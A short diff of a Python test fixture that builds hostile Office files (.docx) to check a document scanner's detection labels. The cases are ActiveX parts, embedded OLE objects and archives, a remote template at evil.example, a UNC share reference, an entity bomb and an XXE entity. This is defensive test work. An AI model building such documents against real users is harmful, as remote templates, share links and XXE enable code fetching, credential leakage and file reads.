@@ -151,7 +151,7 @@ def documents() -> dict[str, tuple[str, bytes, str]]:
         "a control": ("制度.docx", with_parts(word(), {"word/activeX/activeX1.xml": b"<x/>"}), "file_office_macro"),
         "a program inside": ("制度.docx", with_parts(word(), {"word/embeddings/oleObject1.bin": ole_package()}), "file_office_embedded"),
         "an archive inside": ("制度.docx", with_parts(word(), {"word/embeddings/a.zip": word()}), "file_office_embedded"),
-        "a template from elsewhere": ("制度.docx", with_parts(word(), {RELS: relation("attachedTemplate", "https://evil.example/t.dotm")}), "file_office_outside"),
+        "a template from elsewhere": ("制度.docx", with_parts(word(), {RELS: relation("attachedTemplate", "https://evil.example/t")}), "file_office_outside"),
         "an object from a share": ("制度.docx", with_parts(word(), {RELS: relation("oleObject", "\\\\evil.example\\s\\a")}), "file_office_outside"),
         "entities that multiply": ("制度.docx", with_parts(word(), {"word/document.xml": DTD}), "file_office_entity"),
         "an entity that reads a file": ("制度.docx", with_parts(word(), {"word/styles.xml": XXE}), "file_office_entity"),
